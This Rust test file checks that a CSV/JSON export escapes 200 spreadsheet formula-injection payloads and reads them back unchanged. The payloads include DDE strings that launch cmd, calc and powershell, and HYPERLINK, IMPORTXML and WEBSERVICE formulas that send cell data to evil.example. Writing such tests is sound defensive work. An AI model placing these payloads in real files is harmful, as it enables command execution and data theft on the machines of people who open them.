use super::super::Format;
use super::{account, all, file, workspace};
use crate::accounts::AccountRow;
use crate::import::decode::decode;
use crate::import::table::{Cells, RowSource, Table};
use crate::import::value::{Reading, parse};

const STARTS: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''@",
    " =",
    "\u{a0}+",
    "\u{3000}-",
    "=-",
    "@=",
    "\t=",
    "'\t",
];
const BODIES: [&str; 10] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "SUM(1,2)*cmd|'/C powershell'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "WEBSERVICE(\"http://evil.example\")",
    "2+5+cmd|' /C calc'!A0\",\"b",
    "A1,B2;C3",
    "x\r\n=1+1",
];

/// Two hundred texts that a spreadsheet might run.
pub(super) fn payloads() -> Vec<String> {
    STARTS.iter().flat_map(|start| BODIES.map(|body| format!("{start}{body}"))).collect()
}

fn rows(payloads: &[String]) -> Vec<AccountRow> {
    let row = |(place, text): (usize, &String)| {
        let mut row = account(place as u128, text);
        row.account.category = Some(text.clone());
        row
    };
    payloads.iter().enumerate().map(row).collect()
}

/// Returns the texts of the column `Category` as the import takes them.
fn categories(text: &str) -> (Vec<String>, Vec<String>) {
    let table = Table::open(decode(text.as_bytes()).unwrap().text).unwrap();
    let place = table.headings().iter().position(|heading| heading == "Category").unwrap();
    let (mut source, mut cells, mut raw, mut read) = (table.rows(), Cells::new(), Vec::new(), Vec::new());
    while source.read(&mut cells).unwrap().is_some() {
        raw.push(cells[place].to_owned());
        let value = parse(&cells[place], &crate::fields::FieldType::Text, &Reading::default()).unwrap();
        read.push(value.as_str().unwrap().to_owned());
    }
    (raw, read)
}

#[test]
fn two_hundred_formulas_leave_as_text_and_come_back_as_they_were() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    for format in [Format::Csv, Format::Json] {
        let text = file(format, &all(&workspace()), &rows(&payloads));
        let (raw, read) = categories(&text);
        assert_eq!(read, payloads, "{format:?}");
        let risky = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        assert_eq!(raw.iter().find(risky), None, "{format:?}");
    }
}
